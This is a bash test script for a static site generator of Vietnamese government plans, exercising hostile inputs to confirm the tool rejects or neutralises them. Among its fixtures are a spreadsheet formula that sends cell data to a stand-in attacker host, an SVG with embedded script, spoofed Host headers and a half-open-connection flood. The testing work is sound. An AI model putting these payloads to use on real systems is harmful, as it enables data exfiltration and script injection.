#!/usr/bin/env bash
# test_hostile.sh: what a hostile or careless editor can do (issue 16):
# graphs that explode, names too long for a folder, a base_url that points
# elsewhere, the preview server under DNS rebinding and slowloris, formulas in
# tasks.csv, script in static/, CSP on every page, a damaged object, commit
# metadata that is not UTF-8, a template that includes itself.
. "$(dirname "$0")/lib.sh"
REL=${PLANSITE_REL:-$PLANSITE}   # timings are taken with the optimised binary

# gen KIND N REPO [WIDTH]: a documents graph in documents.yaml and one plan at
# the bottom of it. chain: each document implements the one before.
# diamond: N layers of WIDTH documents, each implementing every document of
# the layer above (so two of a layer share their parents).
gen() {
	python3 - "$@" <<'PY'
import os, sys
kind, n, repo = sys.argv[1], int(sys.argv[2]), sys.argv[3]
w = int(sys.argv[4]) if len(sys.argv) > 4 else 2
c = os.path.join(repo, "content")
os.makedirs(os.path.join(c, "plans"), exist_ok=True)
out = []
if kind == "chain":
    for i in range(n):
        imp = "" if i == 0 else ', implements: ["%d/NQ-CP"]' % (i - 1)
        out.append('- { number: "%d/NQ-CP", title: "Văn bản %d"%s }\n' % (i, i, imp))
    last = "%d/NQ-CP" % (n - 1)
else:
    out.append('- { number: "0-0/NQ", title: "Gốc" }\n')
    prev = ["0-0/NQ"]
    for k in range(1, n):
        cur = ["%d-%d/NQ" % (k, j) for j in range(w)]
        for num in cur:
            out.append('- { number: "%s", title: "Tầng %d", implements: [%s] }\n'
                       % (num, k, ", ".join('"%s"' % p for p in prev)))
        prev = cur
    last = prev[0]
open(os.path.join(c, "documents.yaml"), "w").write("".join(out))
open(os.path.join(c, "plans", "cuoi.md"), "w").write(
    '---\nnumber: "1/KH-UBND"\ntitle: "Kế hoạch cuối chuỗi"\nimplements: ["%s"]\n'
    'tasks:\n  - { id: "1", title: "Việc", lead: "Văn phòng", output: "Báo cáo", due: "2025", status: done }\n'
    '  - { id: "2", title: "Việc hai", lead: "Văn phòng", output: "Báo cáo", due: "2025" }\n---\n' % last)
PY
}

# timed SECONDS DESC CMD...: runs CMD, which must succeed within 2 x SECONDS of CPU time
timed() {
	# The limit guards against blow-ups (exponential paths, quadratic
	# loops), not speed: it is on CPU time (user + system, every thread),
	# which the load of a shared machine barely moves, at twice the old
	# wall-clock limit since a build uses two cores.  Speed is measured
	# in bench/, not here.
	local limit=$(($1 * 2)) desc=$2
	shift 2
	local TIMEFORMAT='%U %S'
	if { time timeout $((limit * 5)) "$@" 2>"$T/stderr"; } 2>"$T/time"; then
		local took
		took=$(awk '{ printf "%d", $1 + $2 + 0.5 }' "$T/time")
		if [ "$took" -le "$limit" ]; then ok "$desc (${took} s CPU)"; else not_ok "$desc took ${took} s CPU, over $limit"; fi
	else
		not_ok "$desc failed"
		tail -5 "$T/stderr"
	fi
}

# ---- diamonds: 40 layers, exponential paths, linear pages ------------------------------
R=$T/diamond
newrepo "$R"
gen diamond 40 "$R" 2
commit "$R" "2025-12-01T10:00:00+07:00" "diamonds"
timed 10 "a 40-layer diamond DAG builds" "$REL" build --repo "$R" --out "$T/out-diamond"
check "... into a small site (under 20 MB)" [ "$(du -sm "$T/out-diamond" | cut -f1)" -lt 20 ]
root=$T/out-diamond/van-ban/0-0-nq/index.html
check "... the top document lists the plan once" [ "$(grep -o 'href="/ke-hoach/1-kh-ubnd/"' "$root" | wc -l)" -le 2 ]
check "... later occurrences are references" grep -q 'đã nêu ở trên' "$root"
check "... the rolled-up tasks count the plan once (2 tasks)" \
	[ "$(json '[x for x in d if x["number"]=="0-0/NQ"][0]["stats"]["total"]' "$T/out-diamond/du-lieu/documents.json")" = 2 ]
rc=0
ps build --repo "$R" --out "$T/out-diamond-san" 2>"$T/stderr" || rc=$?
check "... and the sanitizer build succeeds without a sanitizer report (exit $rc)" \
	bash -c "[ $rc = 0 ] && ! grep -q 'Sanitizer\|runtime error' '$T/stderr'"
sed 's/^/# /' "$T/stderr" | head -5

R=$T/wide
newrepo "$R"
gen diamond 40 "$R" 12
commit "$R" "2025-12-01T10:00:00+07:00" "wide diamonds"
timed 30 "a wide DAG (40 layers of 12) builds" "$REL" build --repo "$R" --out "$T/out-wide"
check "... every document page is bounded (under 1 MB)" \
	bash -c "[ -z \"\$(find '$T/out-wide/van-ban' -mindepth 2 -name index.html -size +1024k)\" ]"
check "... and the documents page lists each edge once (under 5 MB)" \
	bash -c "[ -z \"\$(find '$T/out-wide/van-ban/index.html' -size +5120k)\" ]"

# ---- a chain of 20,000 documents ------------------------------------------------------
R=$T/chain
newrepo "$R"
gen chain 20000 "$R"
commit "$R" "2025-12-01T10:00:00+07:00" "chain"
timed 60 "a 20,000-document implements chain builds" "$REL" build --repo "$R" --out "$T/out-chain"
check "... the top document rolls up the plan 20,000 levels below" \
	[ "$(json '[x for x in d if x["number"]=="0/NQ-CP"][0]["stats"]["total"]' "$T/out-chain/du-lieu/documents.json")" = 2 ]
check "... the plan page shows a bounded chain above it (32 documents)" \
	[ "$(grep -o 'href="/van-ban/[0-9]*-nq-cp/"' "$T/out-chain/ke-hoach/1-kh-ubnd/index.html" | sort -u | wc -l)" -le 33 ]
check "... a document page shows a bounded tree below it" \
	grep -q 'class="more"' "$T/out-chain/van-ban/100-nq-cp/index.html"

# ---- names too long for a folder, titles too long for a quadratic index ---------------
R=$T/long
newrepo "$R"
python3 - "$R" <<'PY'
import sys
r = sys.argv[1]
num = "9" * 400 + "/KH-UBND"
unit = "Phòng " + "Văn hóa " * 37
title = " ".join("từ%d" % i for i in range(30000))
for name, n, u, t in (("a", num, unit, title), ("b", num[:-9] + "8/KH-UBND", unit + "x", "B")):
    open("%s/content/plans/%s.md" % (r, name), "w").write(
        '---\nnumber: "%s"\ntitle: "%s"\ntasks:\n  - { id: "1", title: "Việc", lead: "%s", output: "x", due: "2025" }\n---\n'
        % (n, t, u))
PY
commit "$R" "2025-12-01T10:00:00+07:00" "long names"
timed 20 "a 400-character number, a 300-character unit and a 30,000-word title build" \
	"$REL" build --repo "$R" --out "$T/out-long"
longest() { find "$1" -mindepth 1 -maxdepth 1 -type d -printf '%f\n' | awk '{ if (length($0) > m) m = length($0) } END { print m + 0 }'; }
check "plan slugs are at most 80 characters" [ "$(longest "$T/out-long/ke-hoach")" -le 80 ]
check "unit slugs are at most 80 characters" [ "$(longest "$T/out-long/don-vi")" -le 80 ]
check "two long numbers sharing their start get two pages" \
	[ "$(find "$T/out-long/ke-hoach" -mindepth 1 -maxdepth 1 -type d | wc -l)" = 2 ]
check "two long unit names get two pages" \
	[ "$(find "$T/out-long/don-vi" -mindepth 1 -maxdepth 1 -type d | wc -l)" = 2 ]
build_ok "$R" "$T/out-long2"
check "... and the same slugs on the next build" diff <(ls "$T/out-long/ke-hoach") <(ls "$T/out-long2/ke-hoach")
mkdir -p "$R/content/static"
echo x >"$R/content/static/$(printf 'a%.0s' $(seq 210)).pdf"
commit "$R" "2025-12-02T10:00:00+07:00" "long static name"
rc=0
ps build --repo "$R" --out "$T/out-long3" 2>"$T/stderr" || rc=$?
check "a static file name over 200 bytes is an error (exit $rc)" [ "$rc" = 1 ]
check "... located at the file" grep -q "^content/static/aaaa.*: error: \[E071\] .*200 byte" "$T/stderr"

# 6,000 unit names with no Latin letter: one slug ("x") shared by all
R=$T/cjk
newrepo "$R"
python3 - "$R" <<'PY'
import sys
tasks = "".join('  - { id: "%d", title: "V", lead: "%s", output: "x", due: "2025" }\n'
                % (i, chr(0x4e00 + i) + chr(0x4e00 + i // 7)) for i in range(6000))
open(sys.argv[1] + "/content/plans/a.md", "w").write('---\nnumber: "1/KH"\ntitle: "A"\ntasks:\n' + tasks + "---\n")
PY
commit "$R" "2025-12-01T10:00:00+07:00" "cjk"
timed 20 "6,000 names sharing one slug build" "$REL" build --repo "$R" --out "$T/out-cjk"
check "... the shared slug is a warning located at the unit's first use" \
	grep -q '^content/plans/a.md:[0-9]*:[0-9]*: warning: \[W034\] .*trùng địa chỉ "x"' "$T/stderr"
check "... each with its own page (x, x-2 ... x-6000)" \
	bash -c "[ -d '$T/out-cjk/don-vi/x-6000' ] && [ \$(ls '$T/out-cjk/don-vi' | wc -l) = 6001 ]"

# ---- base_url --------------------------------------------------------------------------
R=$T/base
newrepo "$R"
sed -i 's|^base_url: .*|base_url: https://example.gov.vn//attacker.example/|' "$R/content/site.yaml"
gen chain 3 "$R"
commit "$R" "2025-12-01T10:00:00+07:00" "base"
build_ok "$R" "$T/out-base"
check "base_url with // gives no protocol-relative link" \
	bash -c "! grep -rEq '(href|src)=\"//' '$T/out-base'"
check "... its path is normalised (/attacker.example/)" \
	grep -q 'href="/attacker.example/static/style.css"' "$T/out-base/index.html"
check "... absolute links stay on the base's host" \
	bash -c "grep -q '<loc>https://example.gov.vn/attacker.example/' '$T/out-base/sitemap.xml' && ! grep -q 'https://example.gov.vn//' '$T/out-base/sitemap.xml'"
sed -i 's|^base_url: .*|base_url: "https://example.gov.vn/a\\\\b\\"/"|' "$R/content/site.yaml"
commit "$R" "2025-12-02T10:00:00+07:00" "bad base"
rc=0
ps build --repo "$R" --out "$T/out-base2" 2>"$T/stderr" || rc=$?
check "a base_url with \\ and a quote is an error (exit $rc)" [ "$rc" = 1 ]
check "... located in site.yaml" grep -q '^content/site.yaml:[0-9]*:[0-9]*: error: \[E070\] base_url' "$T/stderr"
rc=0
ps build --repo "$R" --out "$T/out-base3" --base-url 'https://user@attacker.example/' 2>"$T/stderr" || rc=$?
check "--base-url with a user name exits 2 ($rc)" [ "$rc" = 2 ]

# ---- tasks.csv formulas, static files that run script, CSP --------------------------------
R=$T/csv
newrepo "$R"
mkdir -p "$R/content/static"
cat >"$R/content/plans/a.md" <<'EOF'
---
number: "5/KH-UBND"
title: "Kế hoạch có công thức"
tasks:
  - { id: "1", title: '=HYPERLINK("http://attacker.example/?"&A1,"Bấm")', lead: "Văn phòng", output: "+1", due: "2025" }
  - { id: "2", title: "@SUM(1+1)", lead: "Văn phòng", output: "-2+3", due: "2025" }
  - { id: "3", title: "Việc thường", lead: "Văn phòng", output: "Báo cáo", due: "2025" }
---
EOF
printf '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n' >"$R/content/static/logo.svg"
commit "$R" "2025-12-01T10:00:00+07:00" "csv"
build_ok "$R" "$T/out-csv"
csv=$T/out-csv/du-lieu/tasks.csv
check "a formula cell gets a leading quote" grep -q "\"'=HYPERLINK(\"\"http" "$csv"
check "... as do +, - and @ cells" bash -c "grep -q \"'+1\" '$csv' && grep -q \"'-2+3\" '$csv' && grep -q \"'@SUM\" '$csv'"
check "... and no cell starts with a formula character" python3 - "$csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig")))
bad = [c for r in rows[1:] for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
sys.exit(1 if bad else 0)
PY
check "... plain cells are untouched" grep -q ',Việc thường,' "$csv"
check "/du-lieu/ says so" grep -q 'dấu nháy đơn' "$T/out-csv/du-lieu/index.html"
check "static/logo.svg is a warning naming the file" grep -q "content/static/logo.svg: warning: \[W003\] .*logo.svg" "$T/stderr"
rc=0
ps check --repo "$R" --strict 2>"$T/stderr" || rc=$?
check "... an error with --strict (exit $rc)" \
	bash -c "[ $rc = 1 ] && grep -q 'content/static/logo.svg: error: \[E072\] ' '$T/stderr'"
check "CSP meta on every page, first in <head>" python3 - "$T/out-csv" <<'PY'
import os, re, sys
bad = []
n = 0
for d, _, fs in os.walk(sys.argv[1]):
    for f in fs:
        if not f.endswith(".html"):
            continue
        n += 1
        s = open(os.path.join(d, f), encoding="utf-8").read()
        head = re.search(r"<head>(.*?)</head>", s, re.S)
        csp = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', s)
        if not head or len(csp) != 1 or not head.group(1).startswith("<meta http-equiv=\"Content-Security-Policy\""):
            bad.append(f + ": no CSP first in head")
        elif "script-src 'self'" not in csp[0] or "unsafe-inline" in csp[0]:
            bad.append(f + ": weak CSP " + csp[0])
        # nothing the policy would block: inline script, handlers, style attributes
        if re.search(r"<script(?![^>]*\bsrc=)[^>]*>", s) or re.search(r"\son[a-z]+=", s) or re.search(r"\sstyle=", s):
            bad.append(f + ": inline script or style")
if bad:
    print("\n".join(bad[:5]))
sys.exit(1 if bad or n < 10 else 0)
PY

# ---- a damaged object, commit metadata that is not UTF-8 --------------------------------
R=$T/obj
newrepo "$R"
printf -- '---\nnumber: "1/KH-UBND"\ntitle: "Kế hoạch thật"\n---\n' >"$R/content/plans/a.md"
printf -- '---\nnumber: "2/KH-UBND"\ntitle: "Kế hoạch giả"\n---\n' >"$R/content/plans/b.md"
commit "$R" "2025-12-01T10:00:00+07:00" "two plans"
A=$(git -C "$R" rev-parse HEAD:content/plans/a.md)
B=$(git -C "$R" rev-parse HEAD:content/plans/b.md)
chmod u+w "$R/.git/objects/${A:0:2}/${A:2}"
cp "$R/.git/objects/${B:0:2}/${B:2}" "$R/.git/objects/${A:0:2}/${A:2}"
rc=0
ps build --repo "$R" --out "$T/out-obj" 2>"$T/stderr" || rc=$?
check "a loose object replaced by another valid one fails the build (exit $rc)" [ "$rc" = 2 ]
check "... naming the file and the mismatch" grep -q "content/plans/a.md: .*hash mismatch" "$T/stderr"
check "... and publishes nothing" [ ! -e "$T/out-obj" ]

R=$T/latin1
newrepo "$R"
printf -- '---\nnumber: "1/KH-UBND"\ntitle: "A"\ntasks:\n  - { id: "1", title: "V", lead: "X", output: "y", due: "2025" }\n---\n' >"$R/content/plans/a.md"
commit "$R" "2025-12-01T10:00:00+07:00" "first"
sed -i 's/title: "A"/title: "B"/' "$R/content/plans/a.md"
git -C "$R" add -A
python3 - "$R" <<'PY'
import subprocess, sys
r = sys.argv[1]
tree = subprocess.check_output(["git", "-C", r, "write-tree"]).strip()
parent = subprocess.check_output(["git", "-C", r, "rev-parse", "HEAD"]).strip()
body = (b"tree " + tree + b"\nparent " + parent +
        b"\nauthor Nguy\xe9n V\xe0n <an@x> 1765000000 +0700\ncommitter Nguy\xe9n <an@x> 1765000000 +0700\n\n"
        b"S\xf6a k\xe9 ho\xe1ch <b>&\n")
oid = subprocess.run(["git", "-C", r, "hash-object", "-t", "commit", "-w", "--stdin"], input=body,
                     capture_output=True, check=True).stdout.strip()
subprocess.run(["git", "-C", r, "update-ref", "HEAD", oid], check=True)
PY
build_ok "$R" "$T/out-latin1"
check "an author that is not UTF-8 is a warning naming the commit" \
	grep -q "^commit [0-9a-f]\{7\}: warning: \[W040\] .*author.*UTF-8" "$T/stderr"
check "... so is the message" grep -q "^commit [0-9a-f]\{7\}: warning: \[W040\] .*message.*UTF-8" "$T/stderr"
check "atom.xml is valid XML" python3 -c 'import sys, xml.dom.minidom as m; m.parse(sys.argv[1])' "$T/out-latin1/thay-doi/atom.xml"
check "changes.json keeps author and subject, with U+FFFD" \
	[ "$(json '[(e["author"], e["subject"]) for e in d if "author" in e][0] == ("Nguy\ufffdn V\ufffdn", "S\ufffda k\ufffd ho\ufffdch <b>&")' "$T/out-latin1/du-lieu/changes.json")" = true ]

# ---- a template that includes itself ---------------------------------------------------
R=$T/tmpl
newrepo "$R"
printf -- '---\nnumber: "1/KH-UBND"\ntitle: "A"\n---\n' >"$R/content/plans/a.md"
mkdir -p "$R/content/templates"
printf 'x\n  {{>pager}}\n' >"$R/content/templates/as_of.mustache"
printf '{{#x}}{{>pager}}{{/x}}\n{{>as_of}}\n' >"$R/content/templates/pager.mustache"
commit "$R" "2025-12-01T10:00:00+07:00" "loop"
rc=0
ps build --repo "$R" --out "$T/out-tmpl" 2>"$T/stderr" || rc=$?
check "a template including itself through another is an error (exit $rc)" [ "$rc" = 1 ]
check "... located at the tag, naming the cycle" \
	grep -q '^content/templates/pager.mustache:2:1: error: \[E091\] .*as_of (content/templates/as_of.mustache) -> pager (content/templates/pager.mustache) -> as_of' "$T/stderr"
printf '{{>page}}\n' >"$R/content/templates/page.mustache"
rm "$R/content/templates/pager.mustache" "$R/content/templates/as_of.mustache"
commit "$R" "2025-12-02T10:00:00+07:00" "self"
rc=0
ps build --repo "$R" --out "$T/out-tmpl" 2>"$T/stderr" || rc=$?
check "a template including itself directly is an error (exit $rc)" \
	grep -q '^content/templates/page.mustache:1:1: error: \[E091\] .*page (content/templates/page.mustache) -> page' "$T/stderr"

printf '{{#page}}{{>as_of}}{{/page}}\n' >"$R/content/templates/as_of.mustache"
rm "$R/content/templates/page.mustache"
commit "$R" "2025-12-03T10:00:00+07:00" "endless section"
rc=0
ps build --repo "$R" --out "$T/out-tmpl" 2>"$T/stderr" || rc=$?
check "a template including itself in a section that never ends is an error (exit $rc)" [ "$rc" = 1 ]
check "... naming the page and the depth" grep -q 'error: \[E095\] trang .*mẫu "[a-z_]*" lồng nhau quá 100 tầng' "$T/stderr"

# ---- the preview server: DNS rebinding and half-open connections -----------------------
R=$T/serve
newrepo "$R"
gen chain 3 "$R"
commit "$R" "2025-12-01T10:00:00+07:00" "serve"
P=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
"$PLANSITE" serve --repo "$R" --port "$P" 2>"$T/serve.log" >/dev/null &
SRV=$!
trap 'kill $SRV 2>/dev/null || true; wait $SRV 2>/dev/null || true; rm -rf "$T"' EXIT
for _ in $(seq 100); do curl -sf -o /dev/null "http://127.0.0.1:$P/__plansite/status" && break; sleep 0.2; done
code() { curl -s --max-time 10 -o /dev/null -w '%{http_code}' "$@"; }
check "a foreign Host gets 421" [ "$(code -H "Host: attacker.example:$P" "http://127.0.0.1:$P/")" = 421 ]
check "... even for the status" [ "$(code -H "Host: attacker.example" "http://127.0.0.1:$P/__plansite/status")" = 421 ]
check "... and the right name on another port" [ "$(code -H "Host: localhost:1" "http://127.0.0.1:$P/")" = 421 ]
check "127.0.0.1:PORT is answered" [ "$(code "http://127.0.0.1:$P/")" = 200 ]
check "localhost:PORT is answered" [ "$(code -H "Host: LocalHost:$P" "http://127.0.0.1:$P/")" = 200 ]
check "served pages carry the CSP too" bash -c "curl -s 'http://127.0.0.1:$P/' | grep -q 'Content-Security-Policy'"
out=$(timeout 120 python3 "$ROOT/tests/e2e/halfopen.py" "$P" 1100 2>&1 || true)
echo "# halfopen: $out"
check "with 1,100 half-open connections a request still answers within 5 s" \
	python3 -c 'import sys; w = sys.argv[1].split(); sys.exit(0 if w[0] == "ok" and float(w[1]) < 5 and w[2] == "200" else 1)' "$out"
check "... and the server is still running" kill -0 $SRV || sed 's/^/# serve: /' "$T/serve.log" | tail -20
kill $SRV 2>/dev/null || true
wait $SRV 2>/dev/null || true
finish
